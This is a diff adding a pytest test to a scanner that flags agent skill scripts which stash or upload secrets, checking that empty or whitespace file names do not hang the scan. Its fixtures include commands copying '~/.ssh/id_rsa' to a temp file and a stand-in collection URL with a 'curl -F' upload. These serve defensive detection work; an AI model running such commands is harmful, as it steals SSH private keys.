@@ -6,10 +6,13 @@ the same-line rule (``...; curl -F f=@/tmp/k``) judges one logical line."""
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
 from skillpack.scan import scan_file
 from skillpack.scan.stashed import MAX_STASHED, stashed_files
+from tests.conftest import run_cli
 
 SSH = "~/.ssh/id_rsa"
 SINK = "https://collect.example.com/u"
@@ -75,3 +78,31 @@ def _lines(text: str) -> list[tuple[int, str]]:
         out.append((start, line))
         start += len(line) + 1
     return out
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        # a fetch or a secret written "to" a directory: the file's name is empty
+        "curl -s -o /tmp/x/ https://example.com/a\necho done\n",
+        f"cat {SSH} > /tmp/x/\necho done\n",
+        # a name of white space, as a quoted argument can make it
+        "curl -s -o $'/tmp/\\n' https://example.com/a\necho done\n",
+        f"cat {SSH} > '/tmp/ '\necho done\n",
+    ],
+)
+def test_a_file_named_by_nothing_but_a_directory_ends_the_search(
+    tmp_path: Path, script: str
+) -> None:
+    """A later line is looked for by the file's name from the end of the line found
+    last: an empty name (``curl -o /tmp/x/``) or one of white space would be found at
+    the same place forever, and the scan (of lint, install, serve) would never end."""
+    skill = tmp_path / "s"
+    (skill / "scripts").mkdir(parents=True)
+    (skill / "SKILL.md").write_text(
+        "---\nname: s\ndescription: Does s. Use it for s.\n---\n\nRun.\n"
+    )
+    (skill / "scripts" / "a.sh").write_text("#!/bin/sh\n" + script)
+    proc = run_cli("lint", skill, "--select", "SP5", timeout=60)  # raises if it never ends
+    assert proc.returncode in (0, 1), proc.stderr
+    assert "Traceback" not in proc.stderr
